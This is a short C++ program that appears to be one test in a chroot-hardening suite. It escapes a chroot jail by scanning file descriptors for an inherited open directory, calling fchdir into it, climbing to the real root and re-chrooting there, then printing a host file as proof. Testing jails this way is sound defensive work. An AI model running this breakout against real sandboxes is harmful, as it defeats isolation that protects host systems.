// Out of a chroot through a directory that the caller had open: fchdir(2) steps into it, wherever
// the root is. Works with chroot(8), and with `01-chroot --skip close-fds`; 01 closes it, where the
// descriptors are closed.
//
//   /escape [FILE]     FILE of the host is printed as proof; exit status 0: escaped, 1: held

#include <unistd.h>

#include <cstdio>

#include "climb.h"

int main(int argc, char** argv) {
  const Directory image = directory("/");

  const int most = static_cast<int>(sysconf(_SC_OPEN_MAX));
  for (int fd = 0; fd < most; ++fd) {
    if (fchdir(fd) == -1) continue;
    std::printf("descriptor %d is a directory that someone left open\n", fd);
    climb_to_the_top();
    if (chroot(".") == -1) std::perror("chroot(\".\")");
    break;
  }

  return verdict(image, argc > 1 ? argv[1] : nullptr);
}
